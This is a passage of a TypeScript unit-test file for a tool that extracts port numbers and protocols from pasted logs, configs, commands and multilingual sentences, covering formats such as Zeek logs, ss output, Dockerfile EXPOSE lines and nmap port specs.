    expect(withProtocols(reply)).toEqual(["5986/TCP"]);
    const v6 =
      '<134>1 2026-11-28T09:12:03+00:00 opnsense.lan filterlog 51123 - [meta sequenceId="9"] 82,,,02f4bab031b57d1e30553ce08e0ec131,igb1,match,pass,in,6,0x00,0x00000,255,udp,17,63,fe80::1c2a:3bff:fe4e:1,ff02::fb,5353,5353,63';
    expect(withProtocols(v6)).toEqual(["5353/UDP"]);
  });

  it("IIS rows whose addresses were masked, that a label opens, and IIS's FTP log", () => {
    const masked =
      "2026-11-28 09:12:01 <server IP> POST /EWS/Exchange.asmx - 444 CONTOSO\\svc_sync <client IP> ASProxy/CrossForest 403 0 0 233";
    expect(findPorts(masked).map((f) => f.port)).toEqual([444]);
    const censored = "2026-11-28 09:12:01 [IP censored] GET /owa/ - 443 - x.x.x.x Mozilla/5.0 - 503 0 1255 15";
    expect(findPorts(censored).map((f) => f.port)).toEqual([443]);
    const labelled = "Front end IIS log:  2026-11-28 09:12:01 10.0.0.4 GET /ecp/ - 443 - 10.0.0.9 Mozilla/5.0 - 500 0 0 42";
    expect(findPorts(labelled).map((f) => f.port)).toEqual([443]);
    const ftp =
      "2026-11-28 09:12:01 10.0.5.7 backup 10.0.1.20 21 ControlChannelOpened - - 0 0 2f6e1c1a-0b3d-4c57-9d2e-5a1f3e7b9c10 -";
    expect(findPorts(ftp).map((f) => f.port)).toEqual([21]);
  });

  it("a line that only looks like filterlog is read as any other", () => {
    expect(findPorts("filterlog: rule 5 blocked tcp port 445 from 10.0.0.9").map((f) => f.port)).toEqual([445]);
  });
});

describe("pasted text: forms read since the nineteenth fresh set", () => {
  it("ss's socket details (`uid:112 ino:25147 sk:2`) are no hosts and ports", () => {
    const ss =
      'udp   UNCONN 0      0            0.0.0.0:5353       0.0.0.0:*    users:(("avahi-daemon",pid=812,fd=12)) uid:104 ino:23417 sk:3 <->\n' +
      "tcp   LISTEN 0      4096         0.0.0.0:5985       0.0.0.0:*    ino:31877 sk:7 cgroup:/system.slice <->";
    expect(found(ss)).toEqual([5353, 5985]);
    expect([...readPaste(ss).nonPorts]).toEqual(expect.arrayContaining([104, 23417, 31877]));
  });

  it("Markdown's bold inside an address keeps its port (`127.0.0.1:**631**`, `[host:**2502**]`)", () => {
    const table =
      "| Proto | Local Address | State |\n|---|---|---|\n| tcp | 0.0.0.0:**3389** | LISTEN |\n| udp | 0.0.0.0:**123** |  |";
    expect(findPorts(table).map((f) => `${f.port}/${f.protocol}`)).toEqual(["3389/TCP", "123/UDP"]);
    expect(found("Failed to connect to [repo01.corp.local:**2502**]: timed out")).toEqual([2502]);
  });

  it("ss's rows: the protocol after its state column, a socket's interface before a service's name", () => {
    const ss =
      "Netid State  Recv-Q Send-Q  Local Address:Port   Peer Address:Port\n" +
      "udp   UNCONN 0      0       127.0.0.53%lo:domain      0.0.0.0:*\n" +
      "tcp   LISTEN 0      4096          0.0.0.0:5985        0.0.0.0:*\n" +
      "tcp   ESTAB  0      0           10.0.1.20:3389     10.0.5.7:50522";
    expect(findPorts(ss).map((f) => `${f.port}/${f.protocol}`)).toEqual(["53/UDP", "5985/TCP", "3389/TCP"]);
  });

  it("what is typed after a connecting tool's address and port is not a count (`nc -nv 10.0.0.5 110 user bob`)", () => {
    expect(found("nc -nv 10.0.0.5 110 user bob")).toEqual([110]);
    expect(found("telnet 10.0.0.5 25 help")).toEqual([25]);
    expect(found("telnet mail.example.com 110 user alice")).toEqual([110]);
    // a duration or a repetition after the tool's host makes a count
    expect(found("nc -w 3 10.0.0.5 5 seconds later it closed")).not.toContain(5);
    // elsewhere a count stays one
    expect(found("10.0.0.5 110 users logged in")).toEqual([]);
  });

  it("Zeek's logs under their `#fields` line: the columns typed `port`; trans ids, versions and counts are none", () => {
    const header =
      "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\ttrans_id\tquery\tqtype\n" +
      "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tcount\tstring\tcount\n";
    const dns = `${header}1732785121.512\tCx8aQ\t10.0.1.20\t61544\t10.0.0.2\t53\tudp\t40811\tdc01.corp.example\t33`;
    expect(findPorts(dns).map((f) => `${f.port}/${f.protocol}`)).toEqual(["53/UDP"]);
    expect(found(dns)).not.toContain(40811);
    // with no `#types` line, the columns named like Zeek's ports
    const ldap =
      "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tmessage_id\tversion\topcode\n" +
      "1732785121.512\tCx8aQ\t10.0.1.20\t61544\t10.0.0.4\t389\t7\t3\tbind simple";
    expect(found(ldap)).toEqual([389]);
  });

  it("a shell's or Compose's default for an unset variable (`WEB_PORT:-8080`) stands for its value", () => {
    const compose = `services:\n  web:\n    ports:\n      - "\${WEB_PORT:-8080}:80"\n    environment:\n      API_URL: "\${API_URL:-http://api:5000/v1}"\n      PORT: \${PORT-3000}`;
    expect(found(compose).sort((a, b) => a - b)).toEqual([80, 3000, 5000, 8080]);
    // a variable with no default, or a default that is no port, gives nothing
    expect(found(`echo "\${HOME}" "\${USER:-root}" "\${RETRIES:=abc}"`)).toEqual([]);
  });

  it("a port with both protocols after it (`88/tcp/udp`) is read with each", () => {
    expect(findPorts("**Default Port:** 88/tcp/udp").map((f) => `${f.port}/${f.protocol}`)).toEqual(["88/TCP", "88/UDP"]);
  });

  it("one port per line in a code block under a line that names ports, in English or Chinese", () => {
    expect(found("Blocked ports file (one per line):\n\n```text\n3306\n22\n```\n\n1. Comments start with #")).toEqual([3306, 22]);
    expect(found("端口黑名单文件内容格式如下:\n\n```\n3389\n445\n```")).toEqual([3389, 445]);
    // a code block of numbers under anything else is not a port list
    expect(found("Exit codes we saw:\n\n```\n137\n143\n```")).toEqual([]);
  });

  it("the AWS CLI's filters name the port by the filter (`Name=ip-permission.from-port,Values=22`)", () => {
    expect(
      found(
        "aws ec2 describe-security-groups --filters Name=ip-permission.to-port,Values=3389 Name=ip-permission.cidr,Values=0.0.0.0/0",
      ),
    ).toEqual([3389]);
    expect(found('{"Filters": [{"Name": "ip-permission.from-port", "Values": ["5986"]}]}')).toEqual([5986]);
  });

  it("ntpq's peer table (its `refid` column) is NTP", () => {
    const ntpq =
      "     remote           refid      st t when poll reach   delay   offset  jitter\n" +
      "==============================================================================\n" +
      "*time.cloudflare 10.21.8.19       3 u   35   64  377   11.203   -0.412   0.388";
    expect(findPorts(ntpq).map((f) => `${f.port}/${f.protocol}`)).toEqual(["123/UDP"]);
  });
});

describe("pasted text: what the nineteenth set's forms must not take (found by review)", () => {
  it("a port word inside another word (レポート, サポート, 리포트, Экспорт, Транспорт) heads no list of ports", () => {
    for (const heading of [
      "エラーレポート:",
      "サポート対象のバージョン:",
      "리포트 결과:",
      "Экспорт метрик:",
      "Транспорт: количество повторов",
    ])
      expect(found(`${heading}\n\`\`\`\n500\n502\n2019\n\`\`\``)).toEqual([]);
    expect(found("リモートポート:\n```\n3389\n```")).toEqual([3389]);
  });

  it("a code block of numbers is a port list only under a line that introduces ports and nothing else", () => {
    expect(found("Which Windows Server versions need these ports opened?\n```\n2016\n2019\n2022\n```")).toEqual([]);
    expect(found("Connections per port (top talkers), counts:\n```\n1532\n877\n```")).toEqual([]);
    expect(found("PIDs holding the port:\n```\n4123\n4188\n```")).not.toContain(4188);
  });

  it("an application log's tags are no IIS addresses", () => {
    for (const line of [
      "2024-01-05 10:00:00 [worker-1] GET /api/health - 200 - [10.0.0.5] took 12ms",
      "2024-01-05 10:00:00 [INFO] HTTP GET /health 200 OK 12 ms",
      "Error: 2024-01-05 10:00:00 [app] POST /login - 500 - [db] failed",
    ])
      expect(found(line)).toEqual([]);
  });

  it("bold between digits is an exponent, not markup; a count after telnet's address stays a count", () => {
    expect(found("max port is 2**16 - 1 and the shard count is 10**3")).toEqual([]);
    expect(findPorts("telnet 10.0.0.5 3 times failed").map((f) => `${f.port}/${f.protocol}`)).toEqual(["23/TCP"]);
  });

  it("a filterlog record claims its fields only: a port written before them on the line is read", () => {
    const csv = "5,,,1000000103,igb1,match,block,in,4,0x0,,64,19008,0,DF,6,tcp,60,192.168.5.6,192.168.1.100,42970,443,0";
    expect(found(`We parse filterlog into CSV. Port 3389 blocked: ${csv}`)).toEqual([3389, 443]);
    // a line that begins with an ISO timestamp is still read as filterlog
    expect(withProtocolsOf(`2024-01-12T10:01:02.000+00:00 pfsense filterlog[1]: ${csv}`)).toEqual(["443/TCP"]);
  });

  it("a Zeek log ends at a blank line or the first line that is not its row", () => {
    const log =
      "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\n" +
      "1.5\tC1\t10.0.0.5\t51234\t10.0.0.9\t445\ttcp\tsmb\t0.5\n\n" +
      "my notes\tweb\t10.0.0.5:8443\tx\ty\t2\ttcp\ta\tb";
    expect(found(log)).toEqual(expect.arrayContaining([445, 8443]));
  });
});

describe("pasted text: forms read since the twentieth fresh set", () => {
  it("Dockerfile's `EXPOSE 80 443`: every port of the instruction's line", () => {
    expect(found('FROM nginx\nEXPOSE 80 443\nCMD ["nginx"]')).toEqual([80, 443]);
    expect(withProtocolsOf("EXPOSE 8080 53/udp 9090")).toEqual(["8080/", "53/UDP", "9090/"]);
    // a range among them, then more ports
    expect(found("EXPOSE 7000-7002 8080")).toEqual([7000, 7001, 7002, 8080]);
    // the word in a sentence, or after other words on its line, is no instruction
    expect(found("We expose 3 services and RUN echo EXPOSE 2 4")).toEqual([]);
  });

  it("the protocol after a list's last range is every listed port's (`5060,10000-10010/udp`)", () => {
    expect(withProtocolsOf("open ports 5060,10000-10010/udp")).toEqual(
      expect.arrayContaining(["5060/UDP", "10000/UDP", "10010/UDP"]),
    );
  });

  it("a list whose ports each say what they are for (`80 for HTTP and 443 for HTTPS`)", () => {
    expect(found("Error: the ports are 80 for HTTP and 443 for HTTPS.")).toEqual([80, 443]);
    expect(found("the default port is 389 for LDAP, 636 for LDAPS, or 3268 for global catalog servers.")).toEqual([
      389, 636, 3268,
    ]);
    // a number after the list's word that is for nothing, or for a phrase, is no port of the list
    expect(found("Error: port 443 for HTTPS and 30 seconds later it failed")).toEqual([443]);
    expect(found("Error: port 5985 for winrm, and 30 for the timeout")).toEqual([5985]);
  });

  it("Tomcat's thread names carry their connector's port (`[http-nio-8080-exec-6]`)", () => {
    expect(withProtocolsOf("14:32:17.452 [http-nio-8080-exec-6] ERROR o.a.g.w.Tunnel - refused")).toEqual(["8080/TCP"]);
    expect(withProtocolsOf("[https-jsse-nio-8443-Acceptor] INFO started")).toEqual(["8443/TCP"]);
  });

  it("a PowerShell parameter with `Port` inside its name, by its capitals (`-StaticPortForIPAll 14339`)", () => {
    expect(found("Set-DbaNetworkConfiguration -SqlInstance SQL1 -StaticPortForIPAll 14339 -RestartService")).toEqual([14339]);
    // `port` inside another word of a parameter is none (`-ExportPath`, `-SupportFor…`)
    expect(found("Get-Thing -ExportPath 5 -SupportForX 6 -Passes 7")).toEqual([]);
  });

  it("netsh's dynamic range: `start=` is its first port, `num=` and `Number of Ports` are counts", () => {
    expect(withProtocolsOf("netsh int ipv4 set dynamicport tcp start=10000 num=1000")).toEqual(["10000/TCP"]);
    const shown =
      "Protocol tcp Dynamic Port Range\n---------------------------------\nStart Port      : 49152\nNumber of Ports : 16384";
    expect(found(shown)).toEqual([49152]);
    // `the number of port 3389 connections` names the port
    expect(found("Error: the number of port 3389 connections keeps growing")).toEqual([3389]);
    // `start=` elsewhere is no port
    expect(found("robocopy job start=10000 retries")).toEqual([]);
  });

  it("a protocol's number said in words (`6 für tcp, 17 für udp`) is no port; a listener's session (`RDP-Tcp#47`) names RDP", () => {
    expect(found("zum Beispiel 1 für `icmp`, 6 für `tcp`, 17 für `udp` oder 89 für `ospf`.")).toEqual([]);
    expect(found("Error: the protocol number is 6 for tcp and 17 for udp")).toEqual([]);
    expect(found("the syslog port 514 for udp")).toEqual([514]);
    expect(withProtocolsOf("The server accepted a new TCP connection.\nConnection RDP-Tcp#47 created")).toEqual(["3389/TCP"]);
    // a port label with a number after `#` is still a port
    expect(found("blocked port#445 again")).toEqual([445]);
  });

  it("a Markdown heading's number is no port (`## 4. UDP listener inventory`)", () => {
    expect(found("## 4. UDP listener inventory\n| Port | Service |\n|---|---|\n| 53 | DNS |")).toEqual([53]);
  });

  it("WinRM over its plain transport in other words: `plaintext`, `AllowUnencrypted`, WinRMHTTPTransportError", () => {
    expect(withProtocolsOf("ansible_winrm_transport: plaintext\nWinRM operation timed out")).toEqual(["5985/TCP"]);
    expect(withProtocolsOf("winrm set winrm/config/service AllowUnencrypted true\nwinrm quickconfig")).toEqual(["5985/TCP"]);
    expect(withProtocolsOf("WinRM::WinRMHTTPTransportError: Bad HTTP response returned from server (500)")).toEqual(["5985/TCP"]);
  });

  it("name resolution in general (名前解決) is not DNS; 域名解析 is", () => {
    expect(found("LLMNR による名前解決が遅い")).toEqual([5355]);
    expect(found("域名解析报错 server returned error code: 3")).toEqual([53]);
  });

  it("WinRM named with neither transport answers for both of its listeners; one transport named, for that one", () => {
    expect(withProtocolsOf("fatal: winrm connection to 10.0.0.9 timed out")).toEqual(["5985/TCP", "5986/TCP"]);
    expect(withProtocolsOf("winrm over http fails: connection timed out")).toEqual(["5985/TCP"]);
    expect(withProtocolsOf("winrm fails with -UseSSL: connection timed out")).toEqual(["5986/TCP"]);
    expect(withProtocolsOf(">>> wsman = WSMan('host', ssl=False)\nWinRM error 500")).toEqual(["5985/TCP"]);
  });

  it("Tomcat's log names a connector by protocol version and port (`Connector[AJP/1.3-8009]`)", () => {
    expect(withProtocolsOf("SEVERE [main] Failed to initialize connector [Connector[AJP/1.3-8009]]")).toEqual(["8009/TCP"]);
    expect(withProtocolsOf("INFO Starting Connector[HTTP/1.1-8080]")).toEqual(["8080/TCP"]);
  });

  it("nmap's and masscan's port specs: each `T:` or `U:` sets the protocol of the ports after it", () => {
    expect(withProtocolsOf("masscan -p T:22,139,U:53,161 10.0.0.0/8")).toEqual(["22/TCP", "139/TCP", "53/UDP", "161/UDP"]);
    expect(withProtocolsOf("nmap -sU -sT -p U:137,T:445 host")).toEqual(["137/UDP", "445/TCP"]);
    // a space after a comma, as people retype it
    expect(withProtocolsOf("nmap -p T:22,139, U:53,161 host")).toEqual(["22/TCP", "139/TCP", "53/UDP", "161/UDP"]);
    // the prefix means a protocol only after a port flag
    expect(found("Error: since u:5 and t:3 happened")).toEqual([]);
  });

  it("a range written with `through` is read by its ends, as with `to`; a count after `through` is none", () => {
    expect(found("Error: IIS Express only allows SSL on ports 44300 through 44399")).toEqual([44300, 44399]);
    expect(found("Error: allow port 443 through 2 load balancers")).toEqual([443]);
  });

  it("Traditional Chinese port words, and a protocol glued before a CJK port word", () => {
    expect(withProtocolsOf("IKE：所使用的是UDP連接埠號碼500")).toEqual(["500/UDP"]);
    expect(withProtocolsOf("PPTP：TCP連接埠1723")).toEqual(["1723/TCP"]);
    expect(withProtocolsOf("开放TCP端口3389")).toEqual(["3389/TCP"]);
  });

  it("the numbers listed after a non-port's label are none either (`Event Logs with ID 36887, 36888, and 36874`)", () => {
    const reading = readPaste("Error: Event Logs with ID 36887, 36888, and 36874 on port 443");
    expect(reading.found.map((f) => f.port)).toEqual([443]);
    expect([...reading.nonPorts]).toEqual(expect.arrayContaining([36887, 36888, 36874]));
    // only after an id's label, and only ids of one length: ports listed after an error stay ports
    expect(found("Failed with error 1722, 135 and 445 are open in the security group")).toEqual(
      expect.arrayContaining([135, 445]),
    );
    expect(readPaste("Error: event ID 4625, 135 and 445 are open").nonPorts.has(135)).toBe(false);
  });

  it("a Windows release named by its year is no port; a host called `server` keeps its port", () => {
    expect(found("SMB moved to port 445 from Windows 2000. Port 445 is used by both TCP and UDP.")).toEqual([445]);
    expect(found("The share fails on Windows Server 2003 and Win 2008 hosts over port 445")).toEqual([445]);
    expect(found("nc -zv server 2049")).toEqual([2049]);
    // a port word after a sentence's end still labels the number before it (`open 3389. Port 445 too`)
    expect(found("Please open 3389. Port 445 is also needed.")).toEqual([3389, 445]);
  });

  it("sentences to others that write their ports out: the text's labels decide, not every number in it", () => {
    const ports = (text: string) => parseQuery(book, text).ports.map((r) => r.from);
    expect(
      ports("I have a target group on port 8080 behind the ALB. The health check fails with 404 at exercise number 4."),
    ).toEqual([8080]);
    // bare ports of services amiport knows stay, as a question's (`443 and 22`, `135 for the DTC`)
    expect(
      ports("Hi team,\nour portal is on port 8080 behind the ALB.\nWe also need 443 and 22 open. Which rules apply?"),
    ).toEqual([22, 443, 8080]);
    // a known service's port that looks like a year (SSDP's 1900) stays too
    expect(ports("The portal is on port 8080 behind the ALB.\nWe also need 1900 for discovery.")).toEqual([1900, 8080]);
    // a port written with no label stays one, as a question's (`moved to 7020`)
    expect(ports("The 3389 port got hit a lot. Since I've moved to 7020 I've had fewer hits.")).toEqual(
      expect.arrayContaining([3389, 7020]),
    );
  });
});

describe("ids, audit headings and negative numbers are no ports (since the twenty-second set)", () => {
  const ports = (text: string) => parseQuery(book, text).ports.map((r) => r.from);

  it("a plural id label marks its whole list: `Event IDs 4624 and 4625`, `events …`, `PIDs …`", () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1000, max: 9999 }),
        fc.integer({ min: 1000, max: 9999 }),
        fc.constantFrom("Event IDs", "eventIDs", "PIDs", "IDs"),
        (a, b, label) => {
          fc.pre(a !== b);
          const read = ports(`${label} ${a} and ${b} show up after the reboot`);
          expect(read).not.toContain(a);
          expect(read).not.toContain(b);
        },
      ),
      { numRuns: propertyRuns(200) },
    );
    // a port written after the list stays one
    expect(ports("Event IDs 4624 and 4625 appear, then port 3389 times out")).toEqual([3389]);
    // (found by review) ports after words that only look like an id's label stay ports
    expect(ports("Snort IDS 1433 scan detected")).toEqual([1433]);
    expect(ports("events 5985 and 5986 blocked by firewall")).toEqual([5985, 5986]);
    expect(ports("Event 5156 and 3389 inbound")).toEqual([3389]);
    expect(ports("codes 3389 and 445")).toEqual([445, 3389]);
  });

  it("Microsoft's audit event headings (`5152(F):`, `4624(S):`, `5156(S, F):`) name events, not ports", () => {
    for (const outcome of ["(S)", "(F)", "(S, F)"]) {
      const reading = readPaste(`5156${outcome}: The Windows Filtering Platform has permitted a connection.`);
      expect(reading.found, outcome).toEqual([]);
      expect(reading.nonPorts.has(5156), outcome).toBe(true);
    }
    // the event's own port fields are still read
    expect(found("5156(S): The Windows Filtering Platform has permitted a connection.\nDestination Port: 3389")).toEqual([3389]);
    // a number in parentheses of other words is not an outcome
    expect(readPaste("listening on 8080 (Server)").nonPorts.has(8080)).toBe(false);
  });

  it("a negative number is no port: `Error Code: [-1]`, `returned -1`, `code=-2`; a dash joining a range or a typed port is kept", () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 999 }),
        fc.constantFrom(
          (n: number) => `ldap_bind(): Can't contact LDAP server. Error Code: [-${n}]`,
          (n: number) => `socket() returned -${n}`,
          (n: number) => `exit code=-${n} from the agent`,
          (n: number) => `the call failed (-${n})`,
        ),
        (n, form) => {
          // (LDAP's own 389 is its service's default, named by `ldap_bind`)
          fc.pre(n !== 389);
          expect(ports(form(n))).not.toContain(n);
        },
      ),
      { numRuns: propertyRuns(200) },
    );
    expect(parseQuery(book, "ports 5985-5986").ports).toEqual([{ from: 5985, to: 5986 }]);
    expect(ports("rdp -2019")).toEqual([2019]);
    // (found by review) a shell's default is its value: `:-` is no minus sign
    expect(ports(`app listens on ${"$"}{PORT:-3000} but I cannot reach it`)).toEqual([3000]);
  });
});

describe("a port a name stands for by its form, in text that reads as a question (since the twenty-second set)", () => {
  const ports = (text: string) => parseQuery(book, text).ports.map((r) => r.from);

  it("dig's `@server` asks DNS wherever it stands after `dig` on its line", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("+short", "-t TXT", "+tcp", "A"),
        fc.constantFrom("myip.opendns.com", "www.github.com", "example.org"),
        fc.constantFrom("@resolver1.opendns.com", "@localhost", "@10.0.0.2"),
        (option, name, server) => {
          expect(ports(`dig ${option} ${name} ${server} times out`)).toEqual([53]);
          expect(ports(`dig ${name} ${server} ${option}`)).toEqual([53]);
        },
      ),
      { numRuns: propertyRuns(50) },
    );
    // an @ of another command, or on the next line, or a person after the verb, is no server
    expect(ports("ping server @home is slow")).toEqual([]);
    expect(ports("need to dig deeper on this one @oncall")).toEqual([]);
    expect(ports("dig into the logs @sam")).toEqual([]);
    expect(parseQuery(book, "I ran dig yesterday\n@sam said it timed out").ports).toEqual([]);
  });

  it("a firewall cmdlet or netsh line naming a service's rule answers for that service", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("Set-NetFirewallRule", "Enable-NetFirewallRule", "Get-NetFirewallRule", "Disable-NetFirewallRule"),
        fc.constantFrom(
          ["-Name WINRM-HTTP-In-TCP-PUBLIC", 5985],
          ['-DisplayName "Remote Desktop - User Mode (TCP-In)"', 3389],
          ["-Name FPS-SMB-In-TCP", 445],
        ),
        (cmdlet, [argument, port]) => {
          expect(ports(`${cmdlet} ${argument} does not work on win10`)).toEqual([port]);
        },
      ),
      { numRuns: propertyRuns(30) },
    );
    // a question typed to amiport about a service still finds rules by its words, hyphens and
    // a mention of netsh included (found by review)
    expect(ports("what does rdp need")).toEqual([]);
    expect(ports("how do I test-drive rdp")).toEqual([]);
    expect(ports("the new-style winrm listener")).toEqual([]);
    expect(ports("how to allow winrm with netsh")).toEqual([]);
  });

  it("a UNC path or a URL's scheme typed alone answers for its service, never a chance word", () => {
    expect(ports("\\\\fs01\\share access denied")).toEqual([445]);
    expect(ports("ldaps://dc01.corp.example fails")).toEqual([636]);
    // words alone still find rules by their words, not by a service
    expect(ports("thanks for sharing the info")).toEqual([]);
  });
});

function withProtocolsOf(text: string): string[] {
  return findPorts(text).map((f) => `${f.port}/${f.protocol ?? ""}`);
}
